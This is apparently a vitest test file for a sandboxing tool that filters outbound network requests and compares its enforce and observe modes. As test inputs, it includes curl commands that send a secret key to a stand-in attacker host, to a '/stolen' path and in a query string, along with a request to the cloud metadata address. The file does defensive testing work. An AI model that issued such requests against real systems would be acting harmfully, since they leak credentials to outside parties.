import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { expect, test } from 'vitest';
import { decoy, runDecoy } from './support/run-decoy.ts';
import { startUpstream } from './support/upstream.ts';
import { openWorkspace } from './support/workspace.ts';

const SECRET = 'sk-observed-0123456789abcdefghijklmnop';
const hosts = ['api.example.test', 'listed.example.test', 'unlisted.example.test', 'evil.example.test'];
const ask = (url: string, ...options: string[]) => `curl -sS -o /dev/null -w '%{http_code} ${url}\\n' ${options.join(' ')} ${url} || echo "000 ${url}"`;
const script = [
  ask('https://api.example.test/v1/chat', '-d', 'x', '-H', '"authorization: Bearer $KEY"'),
  ask('https://listed.example.test/a'), ask('https://listed.example.test/stolen', '-X', 'PUT', '-H', '"x-key: $KEY"'), ask('https://listed.example.test/b', '-X', 'POST'),
  ask('https://unlisted.example.test/items/17'), ask('https://unlisted.example.test/items/18'),
  // What is no matter of the allow list.
  ask('https://evil.example.test/take', '-H', '"authorization: Bearer $KEY"'), ask('https://unlisted.example.test/?k=$KEY'),
  ask(`https://${os.hostname()}/`), ask('http://unlisted.example.test:443/'), ask('http://169.254.169.254/latest'),
].join('\n');
const statuses = (stdout: string) => Object.fromEntries(stdout.trim().split('\n').map((line) => line.split(' ').toReversed()));

// I5, I15
test('the allow list blocks nothing and all is told; secrets, private addresses and framing are held to as ever', async () => {
  await using workspace = await openWorkspace();
  await using upstream = await startUpstream((_, response) => void response.end('answer'));
  const args = ['--secret', 'KEY@api.example.test', '--allow', 'GET listed.example.test/a', ...upstream.resolve(...hosts), '--', 'sh', '-c', script];
  const options = { cwd: workspace.path, env: { ...upstream.env, KEY: SECRET } };

  // The control: what enforce mode makes of the same.
  const enforced = await runDecoy(args, options);
  expect(statuses(enforced.stdout)).toMatchObject({ 'https://listed.example.test/a': '200', 'https://listed.example.test/b': '403', 'https://listed.example.test/stolen': '403', 'https://unlisted.example.test/items/17': '000' });
  // A rule for what would have taken the placeholder along is not among what the report would have allowed.
  expect(enforced.report!.blocked.find(({ path: of }) => of === '/stolen')).toMatchObject({ reason: 'method-not-allowed' });
  expect(enforced.report!.requests!.map(({ path: of }) => of)).toEqual(expect.arrayContaining(['/a', '/b']));
  expect(JSON.stringify(enforced.report!.requests)).not.toContain('/stolen');
  expect(enforced.report).not.toHaveProperty('mode');
  expect(enforced.stderr).not.toContain('OBSERVE');
  upstream.received.length = 0;

  const end = await runDecoy(['--mode', 'observe', '--quiet', ...args], options);
  expect(end, end.stderr).toMatchObject({ exitCode: 0, report: { mode: 'observe', conclusion: 'success' } });
  expect(statuses(end.stdout)).toEqual({
    'https://api.example.test/v1/chat': '200', 'https://listed.example.test/a': '200', 'https://listed.example.test/b': '200',
    'https://unlisted.example.test/items/17': '200', 'https://unlisted.example.test/items/18': '200',
    'https://listed.example.test/stolen': '403', 'https://evil.example.test/take': '403', 'https://unlisted.example.test/?k=$KEY': '403',
    [`https://${os.hostname()}/`]: '403', 'http://unlisted.example.test:443/': '403', 'http://169.254.169.254/latest': '000',
  });
  expect(upstream.received.map(({ host, url }) => host + url)).toEqual([
    'api.example.test/v1/chat', 'listed.example.test/a', 'listed.example.test/b', 'unlisted.example.test/items/17', 'unlisted.example.test/items/18',
  ]);
  expect(upstream.received.filter(({ headers }) => headers.includes(`Bearer ${SECRET}`)).map(({ host }) => host)).toEqual(['api.example.test']);
  expect(end.report!.blocked.map(({ reason }) => reason).sort()).toEqual(['host-not-allowed', 'placeholder-wrong-host', 'placeholder-wrong-host', 'placeholder-wrong-host', 'private-address']);
  expect(end.report!.observed!.map(({ host, reason, count }) => [host, reason, count])).toEqual([
    ['unlisted.example.test', 'host-not-allowed', 2], ['listed.example.test', 'method-not-allowed', 1],
  ]);
  const entries = end.auditLog.trim().split('\n').map((line) => JSON.parse(line) as { protocol: string; host: string; path: string; decision: string; rule: string; reason: string });
  expect(entries).toContainEqual(expect.objectContaining({ protocol: 'https', host: 'unlisted.example.test', path: '/items/17', decision: 'allowed', rule: 'mode: observe', reason: 'host-not-allowed' }));
  expect(entries).toContainEqual(expect.objectContaining({ protocol: 'dns', host: 'unlisted.example.test', decision: 'allowed', rule: 'mode: observe', reason: 'name-not-allowed' }));
  expect(end.report!.startup!.canaryMs).toBeGreaterThan(0);
  expect(end.stderr).toMatch(/^Decoy: OBSERVE MODE, ALLOW LIST NOT ENFORCED$/m);
  const proposal = ['POST api.example.test/v1/chat', 'GET listed.example.test/a', 'POST listed.example.test/b', 'GET unlisted.example.test/items/*'];
  expect(end.stderr).toContain(`\nallow: |\n${proposal.map((line) => `  ${line}\n`).join('')}`);

  // And `decoy suggest` says the same of the report and of the audit log; what it says is enough for enforce mode.
  const folder = await mkdtemp(path.join(os.tmpdir(), 'suggest-'));
  await writeFile(path.join(folder, 'report.json'), end.reportText);
  await writeFile(path.join(folder, 'audit.jsonl'), end.auditLog);
  for (const names of [['report.json'], ['audit.jsonl'], ['report.json', 'audit.jsonl']]) {
    expect(await decoy(['suggest', ...names], { cwd: folder })).toMatchObject({ exitCode: 0, stdout: `allow: |\n${proposal.map((line) => `  ${line}\n`).join('')}`, stderr: '' });
  }
  await rm(folder, { recursive: true });
  const again = await runDecoy([...proposal.flatMap((rule) => ['--allow', rule]), ...args], options);
  // Of what nothing but a misuse of a secret asked for, not even the name is known.
  expect(statuses(again.stdout)).toEqual({ ...statuses(end.stdout), [`https://${os.hostname()}/`]: '000', 'https://evil.example.test/take': '000' });
}, 120_000);
